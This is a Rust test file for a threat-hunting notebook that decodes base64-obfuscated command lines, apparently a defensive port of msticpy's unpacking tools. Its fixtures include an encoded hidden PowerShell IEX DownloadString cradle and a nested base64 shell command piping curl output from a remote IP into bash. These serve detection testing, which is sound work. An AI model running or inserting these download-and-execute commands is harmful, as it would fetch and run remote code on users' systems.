//! The code of `notebooks/base64-unpack.ipynb`, cell by cell, with the
//! values the notebook shows checked.

use huntbook::prelude::*;

const PS: &str = "powershell.exe -NoP -NonI -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AcwBlAGMAdQByAGUALQB1AHAAZABhAHQAZQAtAGMAaABlAGMAawAuAHgAeQB6AC8AYQAuAHAAcwAxACcAKQA=";
const NESTED: &str = "/bin/sh -c eval $(echo ZWNobyBZM1Z5YkNBdGN5Qm9kSFJ3T2k4dk1UazRMalV4TGpFd01DNHlNeTk0TG5Ob0lId2dZbUZ6YUE9PSB8IGJhc2U2NCAtZCB8IHNo | base64 -d)";

#[test]
fn notebook_cells_run() -> Result<(), Box<dyn std::error::Error>> {
    let notebook = std::fs::read_to_string(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/notebooks/base64-unpack.ipynb"
    ))?;
    assert!(notebook.contains(PS) && notebook.contains(NESTED));

    let hb = Huntbook::new()?;

    let ps = unpack(PS)?;
    assert_eq!(
        ps.items()[0].decoded_string.as_deref(),
        Some(
            "IEX (New-Object Net.WebClient).DownloadString('http://secure-update-check.xyz/a.ps1')"
        )
    );
    assert!(ps.to_html().contains("utf-16"));

    let nested = unpack(NESTED)?;
    assert_eq!(
        nested.decoded_string(),
        "/bin/sh -c eval $(echo <decoded type='string' name='[None]' index='1' depth='1'>echo \
         <decoded type='string' name='[None]' index='1.1' depth='2'>curl -s http://198.51.100.23/x.sh | bash\
         </decoded> | base64 -d | sh</decoded> | base64 -d)"
    );

    let msg = std::fs::read_to_string(hb.data_path("msticpy/testdata/base64msg.txt")?)?;
    let packed = unpack(&msg)?;
    let html = packed.to_html();
    assert!(html.contains("txtfileenc.txt"));
    let view = packed
        .df()
        .clone()
        .lazy()
        .select([
            col("reference"),
            col("depth"),
            col("file_name"),
            col("file_type"),
            col("encoding_type"),
            col("sha256"),
        ])
        .collect()?;
    assert_eq!(view.width(), 6);
    assert!(view.height() >= 5);

    let procs = read_file(hb.data_path("msticpy/testdata/processes_on_host.csv")?)?;
    let decoded = unpack_df(&procs, "CommandLine")?;
    assert!(decoded.df().height() > 0);
    assert!(decoded.to_html().contains("src_index"));
    let utf16 = decoded
        .df()
        .clone()
        .lazy()
        .filter(col("encoding_type").eq(lit("utf-16")))
        .select([col("src_index"), col("decoded_string")])
        .collect()?;
    assert!(utf16.height() >= 1);
    let first = utf16.column("decoded_string")?.str()?.get(0).unwrap_or("");
    assert!(first.starts_with("$t = 'dir';"), "{first}");

    let shallow = Unpacker::new()
        .max_depth(1)
        .max_total_bytes(1 << 20)
        .unpack(NESTED)?;
    let limited = shallow
        .df()
        .clone()
        .lazy()
        .select([col("reference"), col("decoded_string"), col("stop_reason")])
        .collect()?;
    assert_eq!(limited.height(), 1);
    assert_eq!(
        limited.column("stop_reason")?.str()?.get(0),
        Some("max_depth 1 reached: not decoded or unpacked further")
    );
    Ok(())
}
